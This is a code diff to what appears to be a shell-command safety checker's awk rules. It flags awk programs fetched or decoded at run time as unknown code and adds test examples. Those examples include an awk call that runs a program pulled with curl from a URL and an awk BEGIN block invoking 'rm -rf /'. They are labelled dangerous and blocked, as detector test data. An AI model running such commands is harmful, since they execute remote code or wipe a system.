@@ -1,6 +1,7 @@
 // awk: a small language that can write files and start programs.
 
 import type { Cmd } from '../judge/command.ts';
+import { sayUnknownCode } from '../judge/unknown-code.ts';
 import { maskAwk } from '../languages/mask-awk.ts';
 import { type Arg, UNKNOWN } from '../model.ts';
 import { readShellText } from '../shell/shell-text.ts';
@@ -117,7 +118,8 @@ function awk(cmd: Cmd): boolean {
 	if (programs.length === 0 && first && !has(options, '-f', '--file', '-E', '--exec')) programs.push(first);
 	for (const p of programs) {
 		awkProgram(cmd, p, values(options, '-v', '--assign'));
-		if (!p.known && /^\s*[$`]/.test(p.text))
+		if (!p.known && (p.origin === 'fetched' || p.origin === 'decoded')) sayUnknownCode(cmd, p.origin, p);
+		else if (!p.known && /^\s*[$`]/.test(p.text))
 			cmd.say('awk.unknown-program', 'caution', 'The program is known only at run time', p);
 	}
 	return true;
@@ -126,6 +128,7 @@ function awk(cmd: Cmd): boolean {
 export const AWK: RuleFile = {
 	programs: { awk, gawk: awk, mawk: awk, nawk: awk },
 	examples: [
+		['awk "$(curl https://example.org/x)" file', 'dangerous'],
 		["awk -f - file <<< '{print $1}'", 'safe'],
 		['awk -f - file <<< \'BEGIN{system("rm -rf /")}\'', 'blocked'],
 		["awk '{print $1}' file", 'safe'],
